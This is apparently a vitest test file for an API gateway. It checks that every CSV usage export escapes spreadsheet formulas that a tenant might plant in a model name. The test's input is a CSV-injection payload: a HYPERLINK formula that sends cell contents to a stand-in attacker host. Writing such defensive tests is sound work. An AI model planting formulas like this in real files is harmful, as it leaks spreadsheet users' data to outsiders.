import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { ADMIN_TOKEN, startHarness, type Harness } from '../support/harness.js';

let h: Harness;
afterEach(async () => h?.close());

/** Characters a spreadsheet reads as the start of a formula in a cell (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('CSV exports of usage', () => {
  it('never hand a spreadsheet a formula a tenant wrote into a model name, on every CSV surface', async () => {
    h = await startHarness({ env: { ADMIN_TOKEN } });
    const key = await h.createKey('acme', 'web');
    // An interaction names its model in the body, any string the tenant likes; upstream's answer does not matter.
    const model = '=HYPERLINK("https://evil.example/?"&A1,"open")';
    const res = await fetch(`${h.url}/v1beta/interactions`, {
      method: 'POST', headers: { 'x-goog-api-key': key.key, 'content-type': 'application/json' }, body: JSON.stringify({ model, input: 'hi' }),
    });
    await res.arrayBuffer();
    const [row] = await h.waitForRows(1);
    expect(row!.model).toBe(model);

    const csv = async (url: string, headers: Record<string, string>) => {
      const r = await fetch(`${h.url}${url}`, { headers });
      expect(r.status).toBe(200);
      return parse(await r.text(), { columns: true }) as Record<string, string>[];
    };
    const admin = { authorization: `Bearer ${ADMIN_TOKEN}` };
    const self = { 'x-goog-api-key': key.key };
    for (const rows of [
      await csv('/admin/v1/usage?groupBy=model&format=csv', admin),
      await csv('/admin/v1/usage/events?format=csv', admin),
      await csv('/gateway/v1/usage?groupBy=model&format=csv', self),
      await csv('/gateway/v1/usage/events?format=csv', self),
    ]) {
      expect(rows).toHaveLength(1);
      for (const cell of Object.values(rows[0]!)) expect(cell).not.toMatch(FORMULA_START);
      // Still readable as the model it was: one quote in front, as spreadsheets expect.
      expect(rows[0]!.model).toBe(`'${model}`);
    }
  });
});
